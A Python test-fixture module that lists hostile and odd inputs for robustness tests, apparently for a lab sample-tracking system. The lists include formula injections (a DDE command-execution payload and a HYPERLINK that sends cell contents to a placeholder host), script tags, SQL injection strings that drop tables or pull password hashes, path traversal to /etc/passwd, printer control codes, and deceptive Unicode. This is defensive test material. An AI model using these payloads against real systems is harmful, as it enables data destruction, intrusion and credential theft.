"""What must do no harm wherever it is typed, scanned, read or shown: one list for every test."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)
MARKUP = (
    "<b>bold</b>",
    '<img src="file:///etc/hostname">',
    '<a href="http://example.invalid">x</a>',
    "<script>alert(1)</script>",
    "<!-- x -->",
    "&amp;lt;b&gt;",
    "Save &all",
    "]]>",
    "<table><tr><td>",
    "<!DOCTYPE html><qt>big</qt>",
)
SQL = (
    "'; DROP TABLE sample; --",
    '" OR ""="',
    "' OR '1'='1",
    "x'); DELETE FROM alias; --",
    "1 UNION SELECT argon2id FROM credential",
    "/* x */",
    ":name",
    "%(name)s",
    "$1",
    "?",
    "$$",
)
PATTERNS = (
    "%",
    "_",
    "%%",
    "\\",
    "\\%",
    "a\\",
    "[a-z]*",
    ".*",
    "(?i)x",
    "{0}",
    "{name}",
    "{0.__class__}",
    "%s %d",
)
PRINTER = ("^XA^FDx^FS^XZ", "~JA", "^XZ", "^FD^XZ^XA", "\x02L\r", "${^XA}$", "\x1b%-12345X@PJL", "PM26")
PATHS = ("../../etc/passwd", "C:\\x", "a/b", "CON", "~", "~nobody-such/x", "file:///etc/hostname")
HIDDEN = (
    "HX\u200b42",  # zero-width space
    "HX\u200d42",
    "HX\ufeff42",
    "HX\u00ad42",  # soft hyphen
    "HX\u206042",
    "BX\u202e100",  # right-to-left override
    "BX\u2066x\u2069",
    "\u200eHX",
    "HX\u2028 42",
    "HX\ufff942\ufffb",
    "HX\U000e0041",  # a tag letter
)
LOOK_ALIKES = (
    "\u041d\u042526110042",  # Cyrillic Н and Х for HX
    "B\u0425001",
    "\u0392X001",  # Greek Beta
    "HX2611\u2011042",  # non-breaking hyphen
    "HX\u00a026110042",  # non-breaking space
    "HX\u200926",  # thin space
    "\uff28\uff38\uff12\uff16",  # full width
    "\U0001d407\U0001d417",  # mathematical bold
    "HX\u0662\u0666",  # Arabic-Indic digits
    "PM26\u017f",  # long s, which upper-cases to S
    "P\u039c26",  # Greek Mu
)
DECOMPOSED = ("Zoe\u0308", "A\u030angstro\u0308m", "e\u0301", "\u1112\u1161\u11ab", "x\u0301\u0301\u0301")
CONTROLS = (
    "a\x00b",
    "\x00",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b2J",  # the same with one character
    "\x9d0;title\x9c",
    "\x08\x08\x08",
    "a\x7fb",
    "\x85next line",
    "a\nb",
    "a\r\nb",
)
BROKEN = ("\ud800", "x\udfffy", "\udcff\udcfe", "\ud83d", "\uffff", "\ufffe", "\U0010ffff", "\ue000")
"""Half characters, and those that are none."""
EXCEL = (
    "1.23E+12",
    "1,23E+12",
    "Mar-05",
    "5-mrt",
    "43894",
    "0.5",
    "26110042",
    "#REF!",
    "#NAME?",
    "1E5",
    "00042",
)
"""What a spreadsheet makes of codes, dates and amounts."""
DATES = (
    "03/04/2020",
    "12/31/2026",
    "31/12/2026",
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "20260228",
    "1-1-0001",
)
PLAIN = (
    "HX26110042",
    "drawn in theatre, 2 mL lost",
    "Ren\u00e9e \u2018t Hooft",
    "\u00b5L \u00d7 10\u2076",
    "\U0001f9ea",
    "\U0001f469\u200d\U0001f52c",
    "\u6f22\u5b57",
    "\u0634\u0645\u0627\u0644",
    "",
    " ",
    " padded ",
)
TEXTS = (
    *FORMULAS, *MARKUP, *SQL, *PATTERNS, *PRINTER, *PATHS, *HIDDEN, *LOOK_ALIKES, *DECOMPOSED, *CONTROLS,
    *BROKEN, *EXCEL, *DATES, *PLAIN,
)  # fmt: skip
"""All of them but the large ones."""
LARGE = ("x" * 10_000_000, "9" * 100_000, "1" + " " * 100_000, "<" * 100_000, "a\u0301" * 100_000)
